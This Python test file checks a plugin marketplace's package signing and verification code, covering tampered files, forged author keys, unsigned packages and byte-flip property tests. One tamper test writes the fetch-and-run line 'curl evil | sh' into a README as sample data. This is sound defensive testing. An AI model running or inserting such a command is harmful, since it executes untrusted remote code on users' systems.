"""Verification end to end through the library: tampering, keys, and property tests."""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import string
import tarfile
from pathlib import Path

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from argent_marketplace.package.checksums import format_sums
from argent_marketplace.package.errors import PackageError
from argent_marketplace.package.signing import public_key_b64, sign_bytes
from argent_marketplace.package.verify import check_package, verify_package
from argent_marketplace.package.writer import ArchiveEntry, build_archive, pack_folder
from tests.conftest import make_connector


def _members(data: bytes) -> dict[str, bytes]:
    with tarfile.open(fileobj=io.BytesIO(data), mode="r:gz") as tar:
        out = {}
        for m in tar.getmembers():
            f = tar.extractfile(m)
            assert f is not None
            out[m.name] = f.read()
        return out


def _rebuild(files: dict[str, bytes]) -> bytes:
    return build_archive([ArchiveEntry(p, 0o644, d) for p, d in files.items()], 0)


def _codes(data: bytes | Path, **kw: str) -> list[str]:
    return [p.code for p in check_package(data, **kw).problems]


def test_signed_package_verifies(signed_package: Path, key: Ed25519PrivateKey) -> None:
    verified = verify_package(signed_package, public_key=public_key_b64(key))
    assert verified.manifest.name == "aos-airtable"
    assert verified.sha256 == hashlib.sha256(signed_package.read_bytes()).hexdigest()
    assert verified.key_fingerprint.startswith("SHA256:")


def test_file_changed_after_signing(signed_package: Path) -> None:  # B1, first half
    files = _members(signed_package.read_bytes())
    files["README.md"] += b"\nrun: curl evil | sh\n"
    assert _codes(_rebuild(files)) == ["checksum-mismatch"]


def test_sums_edited_under_original_signature(signed_package: Path) -> None:  # B1, second half
    files = _members(signed_package.read_bytes())
    lines = files["SHA256SUMS"].splitlines(keepends=True)
    files["SHA256SUMS"] = b"".join(lines[1:])  # drop a line
    codes = _codes(_rebuild(files))
    assert codes[0] == "bad-signature"
    assert "unlisted-file" in codes


def test_file_added_after_signing(signed_package: Path) -> None:
    files = _members(signed_package.read_bytes())
    files["agent-harness/evil.py"] = b"import os\n"
    assert _codes(_rebuild(files)) == ["unlisted-file"]


def test_file_removed_after_signing(signed_package: Path) -> None:
    files = _members(signed_package.read_bytes())
    del files["agent-harness/cli_aos/airtable/cli.py"]
    assert _codes(_rebuild(files)) == ["missing-listed-file"]


def test_attacker_key_in_manifest(signed_package: Path) -> None:  # B2 (client side: pinned key)
    attacker = Ed25519PrivateKey.generate()
    files = _members(signed_package.read_bytes())
    doc = json.loads(files["argent.plugin.json"])
    original_key = doc["author"]["publicKey"]
    doc["author"]["publicKey"] = public_key_b64(attacker)
    files["argent.plugin.json"] = json.dumps(doc).encode()
    payload = {k: v for k, v in files.items() if k not in ("SHA256SUMS", "SIGNATURE")}
    sums = format_sums((p, hashlib.sha256(d).hexdigest()) for p, d in payload.items())
    files["SHA256SUMS"], files["SIGNATURE"] = sums, sign_bytes(sums, attacker)
    forged = _rebuild(files)
    assert _codes(forged) == []  # self-consistent...
    assert _codes(forged, public_key=original_key) == ["key-mismatch"]  # ...but not the pinned key


def test_unsigned_package(tmp_path: Path, connector: Path) -> None:
    out = tmp_path / "u.argent-pkg"
    pack_folder(connector, out)
    assert _codes(out) == ["unsigned-package"]
    report = check_package(out, require_signature=False)
    assert report.ok and report.signature == "unsigned"


def test_missing_required_files(signed_package: Path) -> None:
    files = _members(signed_package.read_bytes())
    for name in ("README.md", "connector.json"):
        files.pop(name)
    files = {k: v for k, v in files.items() if not k.startswith("agent-harness/")}
    codes = check_package(_rebuild(files)).problems
    missing = [p.details["member"] for p in codes if p.code == "missing-file"]
    assert missing == ["connector.json", "README.md", "agent-harness/"]


def test_manifest_problems_are_all_reported(signed_package: Path) -> None:
    files = _members(signed_package.read_bytes())
    doc = json.loads(files["argent.plugin.json"])
    doc.update(version="one", pricing="gratis")
    files["argent.plugin.json"] = json.dumps(doc).encode()
    fields = [p.details.get("field") for p in check_package(_rebuild(files)).problems]
    assert fields[:2] == ["version", "pricing"]


def test_archive_problem_is_single_and_fatal() -> None:
    report = check_package(b"PK\x03\x04 not a tarball")
    assert [p.code for p in report.problems] == ["unsupported-format"]
    assert report.contents is None


def test_statement_binding(signed_package: Path) -> None:  # B3
    """Name and version are inside the signed manifest: renaming breaks the checksums."""
    files = _members(signed_package.read_bytes())
    doc = json.loads(files["argent.plugin.json"])
    doc["version"] = "1.1.0"
    files["argent.plugin.json"] = json.dumps(doc).encode()
    assert "checksum-mismatch" in _codes(_rebuild(files))


# --- properties ---------------------------------------------------------------------------

NAMES = st.text(string.ascii_lowercase + string.digits + "_-", min_size=1, max_size=12)
FOLDERS = st.dictionaries(
    st.lists(NAMES, min_size=1, max_size=3).map(lambda parts: "/".join(parts) + ".py"),
    st.binary(max_size=2000),
    max_size=6,
)


@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(extra=FOLDERS, executable=st.booleans())
def test_pack_verify_round_trip(tmp_path_factory: pytest.TempPathFactory, extra: dict[str, bytes],
                                executable: bool) -> None:  # fmt: skip
    """Any valid connector folder packs, verifies, and lists exactly its files."""
    key = Ed25519PrivateKey.generate()
    base = tmp_path_factory.mktemp("prop")
    folder = make_connector(base / "c", key)
    for rel, data in extra.items():
        path = folder / "agent-harness" / rel
        if any(p.is_file() for p in [path, *path.parents] if p != folder):
            continue  # a generated name collides with a file already there
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        if executable:
            path.chmod(0o755)
    out = base / "p.argent-pkg"
    pack_folder(folder, out, key)
    verified = verify_package(out, public_key=public_key_b64(key))
    on_disk = {
        p.relative_to(folder).as_posix()
        for p in folder.rglob("*")
        if p.is_file() and "__pycache__" not in p.parts
    }
    assert set(verified.contents.files) == on_disk | {"SHA256SUMS", "SIGNATURE"}
    for rel in extra:
        entry = verified.contents.files.get(f"agent-harness/{rel}")
        if entry is not None:
            assert entry.mode == (0o755 if executable else 0o644)


def _content_view(data: bytes) -> dict[str, tuple[int, str]] | None:
    report = check_package(data)
    if report.problems or report.contents is None:
        return None
    return {p: (f.mode, f.sha256) for p, f in report.contents.files.items()}


def test_every_single_byte_change_is_detected(signed_package: Path) -> None:
    """Flip bits in each byte of a signed package: verification fails, or the verified
    content (every path, mode and hash) is exactly the original. The package's own sha256
    changes either way, which the client checks against the server's announcement."""
    original = signed_package.read_bytes()
    expected = _content_view(original)
    assert expected is not None
    silent = []
    for i in range(len(original)):
        for flip in (0x01, 0x80):
            mutated = bytearray(original)
            mutated[i] ^= flip
            view = _content_view(bytes(mutated))
            if view is not None:
                assert view == expected, f"byte {i} ^ {flip:#x} changed verified content"
                silent.append(i)
    # What stays silent is gzip header metadata (FTEXT flag, mtime, XFL, OS) and a few
    # deflate bits that decode to the same output: never content, and always rare.
    assert len(silent) < len(original) // 100, sorted(set(silent))


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=st.data())
def test_any_byte_value_change_is_detected(data: st.DataObject) -> None:
    key = Ed25519PrivateKey.from_private_bytes(bytes(range(32)))  # fixed: same bytes every run
    files = {
        "argent.plugin.json": b"{}",
        "README.md": b"# x\n",
        "agent-harness/a.py": b"print(1)\n" * 20,
    }
    sums = format_sums((p, hashlib.sha256(d).hexdigest()) for p, d in files.items())
    files |= {"SHA256SUMS": sums, "SIGNATURE": sign_bytes(sums, key)}
    original = _rebuild(files)
    baseline = {f.path: f.sha256 for f in check_package(original).contents.files.values()}  # type: ignore[union-attr]
    i = data.draw(st.integers(0, len(original) - 1))
    value = data.draw(st.integers(0, 255).filter(lambda v: v != original[i]))
    mutated = bytearray(original)
    mutated[i] = value
    report = check_package(bytes(mutated))
    if report.contents is not None and not any(
        p.code in ("bad-signature", "checksum-mismatch") for p in report.problems
    ):
        # Only content-free bytes may change without an integrity error.
        assert {f.path: f.sha256 for f in report.contents.files.values()} == baseline


def test_gzip_header_metadata_is_not_content(signed_package: Path) -> None:
    """gzip's own header (mtime, OS) is unprotected by its CRC; content is unaffected."""
    original = signed_package.read_bytes()
    raw = gzip.decompress(original)
    retimed = gzip.compress(raw, mtime=123456789)
    assert retimed != original
    assert _content_view(retimed) == _content_view(original)


def test_errors_are_package_errors(signed_package: Path) -> None:
    with pytest.raises(PackageError):
        verify_package(signed_package.read_bytes()[:-20])
